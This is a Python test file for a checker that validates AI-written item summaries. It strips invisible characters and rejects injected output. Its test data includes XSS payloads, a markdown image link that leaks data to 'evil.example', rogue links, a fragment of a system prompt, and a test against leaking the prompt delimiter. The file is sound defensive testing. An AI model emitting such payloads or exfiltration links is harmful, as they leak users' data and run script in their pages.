"""Checks of what a model has written; injections among them."""

import json

import pytest

from runtime.features.summaries.completions.checking import (
    MOST_CHARACTERS,
    Unusable,
    checked_summary,
)
from runtime.features.summaries.completions.models import Prompt
from runtime.features.summaries.completions.requests import prompt_of
from runtime.features.summaries.models import Source

ITEM = Source(1, "Plan", "See https://ours.example/a and use List<String>.")


def prompt() -> Prompt:
    """Return a prompt for an item with an address and with brackets."""
    return prompt_of(ITEM, most=1_000, form="json_schema")


def checked(text: str) -> str:
    """Return the summary in an answer with this text."""
    answer = json.dumps({"summary": text})
    return checked_summary(answer, prompt(), form="json_schema")


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("A plan.", "A plan."),
        ("  A plan.\r\nIt is short.\n\n\n\nEnd.\n", "A plan.\nIt is short.\n\nEnd."),
        ("It links https://ours.example/a.", "It links https://ours.example/a."),
        ("It uses List<String>.", "It uses List<String>."),
        ("1 < 2 & 3 > 2", "1 < 2 & 3 > 2"),
        (
            "\u8a08\u753b\u3002\u3000\u77ed\u3044\u3002",
            "\u8a08\u753b\u3002\u3000\u77ed\u3044\u3002",
        ),
        (
            "\u0646\u0645\u06cc\u200c\u062e\u0648\u0627\u0647\u0645",
            "\u0646\u0645\u06cc\u200c\u062e\u0648\u0627\u0647\u0645",
        ),
        ("x" * MOST_CHARACTERS, "x" * MOST_CHARACTERS),
    ],
)
def test_plain_text_is_shown(text: str, shown: str) -> None:
    """Spaces at its ends, and more than one empty line, are not."""
    assert checked(text) == shown


@pytest.mark.parametrize(
    "hidden",
    ["\x00", "\x1b[2J", "\u202e", "\u200b", "\U000e0041\U000e0042", "\ufeff", "\x7f"],
)
def test_what_people_do_not_see_is_taken_out(hidden: str) -> None:
    """It could be read by programs, or turn around what stands behind it."""
    shown = checked(f"A {hidden}plan.")

    assert shown.replace("[2J", "") == "A plan."


@pytest.mark.parametrize(
    "text",
    [
        "",
        " \n ",
        "\u200b\u2060",
        "x" * (MOST_CHARACTERS + 1),
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "<!-- hidden -->",
        "![x](http://evil.example/?leak)",
        "[click](there)",
        "```sh```",
        "Read http://evil.example/x.",
        "Read https://ours.example/b.",
        "Read www.evil.example now.",
        "Write to mailto:me@evil.example.",
        "javascript:alert(1)",
        "You summarise one item of somebody's list for that person. The item stands",
    ],
)
def test_what_is_no_summary_is_refused(text: str) -> None:
    """Markup and addresses that the item does not have are of somebody else."""
    with pytest.raises(Unusable) as refused:
        checked(text)
    assert not text.strip() or text not in str(refused.value)


def test_the_mark_is_refused() -> None:
    """Whoever makes the model tell it could end the text of the next one early."""
    asked = prompt()
    answer = json.dumps({"summary": f"The mark is {asked.mark}."})

    with pytest.raises(Unusable):
        checked_summary(answer, asked, form="json_schema")


@pytest.mark.parametrize(
    "answer",
    [
        "",
        "A plan.",
        "[]",
        "null",
        '"A plan."',
        "{}",
        '{"summary": 1}',
        '{"summary": null}',
        '{"summary": ["A plan."]}',
        '{"summary": "A plan.", "more": "x"}',
        '{"text": "A plan."}',
        '```json\n{"summary": "A plan."}\n```',
        '{"summary": "\\ud800"}',
        "[" * 100_000,
    ],
)
def test_another_form_is_refused(answer: str) -> None:
    """The model was asked for one object with one text."""
    for form in ("json_schema", "json_object"):
        with pytest.raises(Unusable):
            checked_summary(answer, prompt(), form=form)


def test_a_service_that_cannot_demand_a_form_answers_with_text() -> None:
    """Text that looks like JSON is text, too."""
    assert checked_summary("A plan.", prompt(), form="text") == "A plan."
    assert checked_summary('{"a": 1}', prompt(), form="text") == '{"a": 1}'
